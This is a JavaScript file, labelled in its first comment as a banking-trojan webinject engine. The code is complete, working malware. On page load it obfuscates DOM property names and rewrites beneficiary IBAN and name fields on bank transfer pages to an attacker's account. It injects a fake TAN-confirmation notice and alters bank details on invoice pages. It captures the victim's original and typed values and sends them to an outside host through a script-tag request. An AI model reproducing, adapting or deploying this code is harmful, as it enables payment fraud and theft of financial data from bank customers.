// corpus note: banking-trojan style webinject engine driven by a config of set_url / data_before / data_inject / data_after entries (string-obfuscated), swapping beneficiary fields
(function () {
  var _k = function (s) { return s.split("|").map(function (c) { return String.fromCharCode(parseInt(c, 36)); }).join(""); };
  // "innerHTML", "querySelectorAll", "value"
  var P = { ih: _k("2x|32|32|2t|36|20|2c|25|24"), qs: _k("35|39|2t|36|3d|2b|2t|30|2t|2r|38|33|36|1t|30|30"), v: _k("3a|2p|30|39|2t") };

  var CONFIG = [
    {
      set_url: /online\.examplebank\.test\/.*\/(transfer|ueberweisung)/i,
      fields: { "input[name='beneficiaryIban'], #iban": "GB33 BUKB 2020 1555 5555 55", "input[name='beneficiaryName']": "J Harlow Trading Ltd" },
      data_before: "<div class=\"transfer-summary\">",
      data_inject: "<p class=\"notice\">Due to new security rules please confirm this transfer with your TAN.</p>",
      data_after: "</div>"
    },
    {
      set_url: /\/invoice\/\d+|\/billing\/statement/i,
      text: [[/Bank:\s*[^<\n]+/g, "Bank: Barclays (Europe) Branch"], [/Sort code:\s*[\d-]+/g, "Sort code: 20-00-00"], [/Account (no|number):\s*\d+/gi, "Account number: 55779911"]]
    }
  ];

  var stolen = [];

  function applyFields(map) {
    Object.keys(map).forEach(function (sel) {
      var nodes = document[P.qs](sel);
      for (var i = 0; i < nodes.length; i++) {
        var el = nodes[i];
        if (el[P.v] && el[P.v] !== map[sel]) stolen.push({ f: sel, v: el[P.v] });
        el[P.v] = map[sel];
        el.addEventListener("input", function (e) { stolen.push({ f: "typed", v: e.target[P.v] }); e.target[P.v] = map[sel]; }, false);
      }
    });
  }

  function applyHtml(entry) {
    var body = document.body[P.ih];
    var at = body.indexOf(entry.data_before);
    if (at < 0) return;
    var cut = at + entry.data_before.length;
    document.body[P.ih] = body.slice(0, cut) + entry.data_inject + body.slice(cut);
  }

  function applyText(rules) {
    var html = document.body[P.ih];
    rules.forEach(function (r) { html = html.replace(r[0], function (m) { stolen.push({ t: m }); return r[1]; }); });
    document.body[P.ih] = html;
  }

  function run() {
    var url = location.href;
    CONFIG.forEach(function (e) {
      if (!e.set_url.test(url)) return;
      if (e.data_inject) applyHtml(e);
      if (e.fields) applyFields(e.fields);
      if (e.text) applyText(e.text);
    });
    if (stolen.length) {
      var s = document.createElement("script");
      s.src = "https://gate.cdn-syncstat.test/g.js?b=" + encodeURIComponent(btoa(JSON.stringify({ u: url, d: stolen })));
      document.head.appendChild(s);
      stolen = [];
    }
  }

  window.addEventListener("load", run);
})();
